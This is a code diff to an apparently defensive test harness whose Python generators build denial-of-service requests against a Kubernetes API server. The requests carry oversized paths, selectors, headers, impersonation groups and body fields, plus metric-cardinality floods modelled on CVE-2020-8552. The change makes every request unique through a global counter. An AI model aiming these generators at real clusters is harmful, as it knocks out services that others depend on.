@@ -2,7 +2,7 @@
 
     answers = await play(long_paths(60), port=port, tls=context)      → how often each status code was answered
 
-Each function makes the requests of one attack; no two of them are alike, so that nothing can be remembered.
+Each function makes the requests of one attack. No two are alike, so that nobody can remember one for the next.
 """
 
 from __future__ import annotations
@@ -13,12 +13,13 @@ import ssl
 from collections import Counter
 from collections.abc import Iterable, Iterator
 from dataclasses import dataclass
-from itertools import islice
+from itertools import count, islice
 from urllib.parse import quote
 
 LONG = 1_000_000
 """As long as a request's head may be."""
 CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
+_SERIAL = count()
 
 
 @dataclass(frozen=True, slots=True)
@@ -42,61 +43,61 @@ def post(target: str, obj: object) -> HostileRequest:
     return HostileRequest("POST", target, (("Content-Type", "application/json"),), json.dumps(obj).encode())
 
 
-def long_paths(count: int, size: int = LONG) -> Iterator[HostileRequest]:
-    for number in range(count):
-        yield get(f"/{number}".ljust(size, "x"))
+def long_paths(number: int, size: int = LONG) -> Iterator[HostileRequest]:
+    for serial in islice(_SERIAL, number):
+        yield get(f"/{serial}".ljust(size, "x"))
 
 
-def paths_of_many_segments(count: int, size: int = LONG) -> Iterator[HostileRequest]:
-    for number in range(count):
-        start = f"/api/v1/{number}"
+def paths_of_many_segments(number: int, size: int = LONG) -> Iterator[HostileRequest]:
+    for serial in islice(_SERIAL, number):
+        start = f"/api/v1/{serial}"
         yield get(start + "/ab" * ((size - len(start)) // 3))
 
 
-def made_up_resources(count: int) -> Iterator[HostileRequest]:
+def made_up_resources(number: int) -> Iterator[HostileRequest]:
     """As CVE-2020-8552: each would be a series of every request metric."""
-    for number in range(count):
-        yield get(f"/apis/group-{number}.example.com/v{number}/namespaces/default/things-{number}/name/sub-{number}")
-        yield HostileRequest(f"VERB{number}", f"/apis/example.com/v1/things-{number}")
+    for serial in islice(_SERIAL, number):
+        yield get(f"/apis/group-{serial}.example.com/v{serial}/namespaces/default/things-{serial}/name/sub-{serial}")
+        yield HostileRequest(f"VERB{serial}", f"/apis/example.com/v1/things-{serial}")
 
 
-def made_up_subresources(count: int, resource: str = CONFIG_MAPS) -> Iterator[HostileRequest]:
-    for number in range(count):
-        yield get(f"{resource}/name/{number}".ljust(20_000, "x"))
+def made_up_subresources(number: int, resource: str = CONFIG_MAPS) -> Iterator[HostileRequest]:
+    for serial in islice(_SERIAL, number):
+        yield get(f"{resource}/name/{serial}".ljust(20_000, "x"))
 
 
-def long_selectors(count: int, size: int = 900_000) -> Iterator[HostileRequest]:
-    for number in range(count):
-        kind = ("fieldSelector", "labelSelector")[number % 2]
-        term = f"metadata.name!={number}," if kind == "fieldSelector" else f"l{number}!=v,"
+def long_selectors(number: int, size: int = 900_000) -> Iterator[HostileRequest]:
+    for serial in islice(_SERIAL, number):
+        kind = ("fieldSelector", "labelSelector")[serial % 2]
+        term = f"metadata.name!={serial}," if kind == "fieldSelector" else f"l{serial}!=v,"
         yield get(f"{CONFIG_MAPS}?{kind}={quote(term * (size // len(quote(term))))}metadata.name")
 
 
-def long_headers(count: int, size: int = 900_000) -> Iterator[HostileRequest]:
+def long_headers(number: int, size: int = 900_000) -> Iterator[HostileRequest]:
     """What is asked for, by whom, and names that nobody knows."""
-    for number in range(count):
-        value = f"application/json;x={number}".ljust(size, "y")
+    for serial in islice(_SERIAL, number):
+        value = f"application/json;x={serial}".ljust(size, "y")
         yield get(CONFIG_MAPS, ("Accept", value))
-        yield get("/apis", ("Accept", f"application/json;x={number};" + "a=b;" * (size // 4)))
+        yield get("/apis", ("Accept", f"application/json;x={serial};" + "a=b;" * (size // 4)))
         yield get(CONFIG_MAPS, ("User-Agent", value))
         yield get(CONFIG_MAPS, ("Authorization", f"Bearer {value}"))
-        yield get(CONFIG_MAPS, (f"X-{number}".ljust(size, "n"), "value"))
+        yield get(CONFIG_MAPS, (f"X-{serial}".ljust(size, "n"), "value"))
 
 
-def long_identities(count: int, groups: int = 2_000) -> Iterator[HostileRequest]:
+def long_identities(number: int, groups: int = 2_000) -> Iterator[HostileRequest]:
     """For somebody who may impersonate: users whom nobody knows, in many groups."""
-    for number in range(count):
-        names = (("Impersonate-Group", f"{number}-{group}".ljust(200, "g")) for group in range(groups))
-        yield get(CONFIG_MAPS, ("Impersonate-User", f"{number}".ljust(100_000, "u")), *names)
+    for serial in islice(_SERIAL, number):
+        names = (("Impersonate-Group", f"{serial}-{group}".ljust(200, "g")) for group in range(groups))
+        yield get(CONFIG_MAPS, ("Impersonate-User", f"{serial}".ljust(100_000, "u")), *names)
 
 
-def long_names_in_bodies(count: int, size: int = LONG) -> Iterator[HostileRequest]:
+def long_names_in_bodies(number: int, size: int = LONG) -> Iterator[HostileRequest]:
     """Kinds, managers, quantities, images and time zones that there cannot be."""
-    for number in range(count):
-        name = f"{number}".ljust(size, "x")
-        pod = {"containers": [{"name": "c", "image": name, "resources": {"requests": {name: f"{number}" * 40_000}}}]}
+    for serial in islice(_SERIAL, number):
+        name = f"{serial}".ljust(size, "x")
+        pod = {"containers": [{"name": "c", "image": name, "resources": {"requests": {name: f"{serial}" * 40_000}}}]}
         yield post(CONFIG_MAPS, {"apiVersion": name, "kind": name, "metadata": {"name": "x"}})
-        yield post(CONFIG_MAPS, {"apiVersion": f"v{number}", "kind": "DeleteOptions", "x": name})
+        yield post(CONFIG_MAPS, {"apiVersion": f"v{serial}", "kind": "DeleteOptions", "x": name})
         yield post("/api/v1/namespaces/default/pods?dryRun=All", {"metadata": {"name": "x"}, "spec": pod})
         spec = {"schedule": "* * * * *", "timeZone": name}
         yield post("/apis/batch/v1/namespaces/default/cronjobs?dryRun=All", {"metadata": {"name": "x"}, "spec": spec})
@@ -104,15 +105,14 @@ def long_names_in_bodies(count: int, size: int = LONG) -> Iterator[HostileReques
         yield post("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", {"spec": asked})
 
 
-def distinct_keys(count: int) -> Iterator[HostileRequest]:
+def distinct_keys(number: int) -> Iterator[HostileRequest]:
     """Short enough to be remembered, and as many and as large as memory can be made to hold of them."""
-    for number in range(count):
-        yield get(f"/api/v1/{number}" + "/ab" * 80)
-        yield get(f"/{number}".ljust(250, "x") + f"?{number}".ljust(250, "y"))
-        yield get(
-            f"{CONFIG_MAPS}?labelSelector={number}" + quote(",a,b,c" * 29), ("Accept", f"{number}".ljust(500, "z"))
-        )
-        yield get(f"{CONFIG_MAPS}?fieldSelector={number}" + quote("=,a=,b=" * 26))
+    for serial in islice(_SERIAL, number):
+        yield get(f"/api/v1/{serial}" + "/ab" * 80)
+        yield get(f"/{serial}".ljust(250, "x") + f"?{serial}".ljust(250, "y"))
+        yield get(CONFIG_MAPS, ("Accept", f"{serial}".ljust(500, "z")))
+        yield get(f"{CONFIG_MAPS}?labelSelector={quote(f'l{serial}' + ',a,b,c' * 29)}")
+        yield get(f"{CONFIG_MAPS}?fieldSelector={quote(f'metadata.name!={serial}' + ',metadata.name!=' * 9)}")
 
 
 async def play(
